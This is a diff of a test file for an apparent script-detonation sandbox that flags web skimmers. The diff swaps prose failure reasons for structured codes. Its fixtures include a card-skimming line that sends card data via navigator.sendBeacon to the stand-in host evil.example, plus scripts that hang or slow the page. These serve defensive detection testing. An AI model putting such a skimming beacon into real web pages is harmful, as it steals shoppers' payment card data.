@@ -10,7 +10,7 @@ const SENDS = withCard("navigator.sendBeacon('https://evil.example/', card)")
 it('ends a script that spins, says so, and still tells what it did before and does after', async () => {
   const told = await run(`${SENDS} navigator.sendBeacon('https://early.example/'); for (;;);`)
   expect(told.outcome).toBe('partial')
-  expect(told.why).toBe('The script kept the page busy and was stopped.')
+  expect(told.why?.code).toBe('script-busy')
   expect(all(told, 'contacts').map(({ to }) => to)).toContain('early.example')
   expect(all(told, 'sends').map(({ to }) => to)).toEqual(['evil.example'])
 })
@@ -33,24 +33,24 @@ it('tells what was seen until the page crashed', async () => {
   })
   await beside.send('Network.enable')
   const told = await going
-  expect(told).toMatchObject({ outcome: 'partial', why: 'The page crashed.' })
+  expect(told).toMatchObject({ outcome: 'partial', why: { code: 'page-crashed' } })
   expect(all(told, 'contacts').map(({ to }) => to)).toContain('early.example')
 })
 
 it('fills one field of each kind where the script makes each key slow, and says that it left some out', async () => {
   const slow = "document.addEventListener('keyup', () => { for (let at = 0; at < 6e7; at++); }, true);"
   const told = await run(`${slow} ${SENDS}`, { timeoutMs: 10_000 })
-  expect(told).toMatchObject({ outcome: 'partial', why: 'Time ran out before all fields were filled in.' })
+  expect(told).toMatchObject({ outcome: 'partial', why: { code: 'fields-left' } })
   expect(all(told, 'sends').map(({ to }) => to)).toEqual(['evil.example'])
 })
 
 it('fails with the reason where the script is no JavaScript', async () => {
-  expect(await run('function ( {')).toMatchObject({ outcome: 'failed', why: 'The script is not valid JavaScript.', behaviours: [] })
+  expect(await run('function ( {')).toMatchObject({ outcome: 'failed', why: { code: 'invalid-script' }, behaviours: [] })
 })
 
 it('is partial with the reason where the script misses something and stops', async () => {
   const told = await run(`missingLibrary.start(); ${SENDS}`)
-  expect(told).toMatchObject({ outcome: 'partial', why: 'The script failed: ReferenceError: missingLibrary is not defined' })
+  expect(told).toMatchObject({ outcome: 'partial', why: { code: 'script-failed', said: 'ReferenceError: missingLibrary is not defined' } })
 })
 
 it('runs a script of five megabytes', async () => {
@@ -78,7 +78,7 @@ it('runs a script without an address in the page itself, where it can read its o
     { url: null },
   )
   expect(all(file, 'contacts').map(({ to }) => to)).toEqual(['checkout-shop.example'])
-  expect(await run('function ( {', { url: null })).toMatchObject({ outcome: 'failed', why: 'The script is not valid JavaScript.' })
+  expect(await run('function ( {', { url: null })).toMatchObject({ outcome: 'failed', why: { code: 'invalid-script' } })
 })
 
 it('fails where the browser is gone, and says that it was cancelled where it was', async () => {
@@ -87,7 +87,7 @@ it('fails where the browser is gone, and says that it was cancelled where it was
   expect(await detonate(own, { text: '1', url: null })).toMatchObject({ outcome: 'failed', behaviours: [] })
   const controller = new AbortController()
   controller.abort()
-  expect(await run(SENDS, { signal: controller.signal })).toMatchObject({ outcome: 'failed', why: 'The run was canceled.' })
+  expect(await run(SENDS, { signal: controller.signal })).toMatchObject({ outcome: 'failed', why: { code: 'canceled' } })
 })
 
 it('is partial where a script does so much that not all of it is kept, and tells of the card none the less', async () => {
@@ -95,6 +95,6 @@ it('is partial where a script does so much that not all of it is kept, and tells
     for (let at = 0; at < 2500; at++) document.createElement('input').value + document.getElementById('x' + at)
     for (let at = 0; at < 400; at++) document.cookie = 'decoy=' + at
     ${SENDS}`)
-  expect(told).toMatchObject({ outcome: 'partial', why: 'The script did more than Tillwatch stores.' })
+  expect(told).toMatchObject({ outcome: 'partial', why: { code: 'too-much-behavior' } })
   expect(all(told, 'sends').map(({ what, to }) => `${what} ${to}`)).toEqual(['card evil.example'])
 })
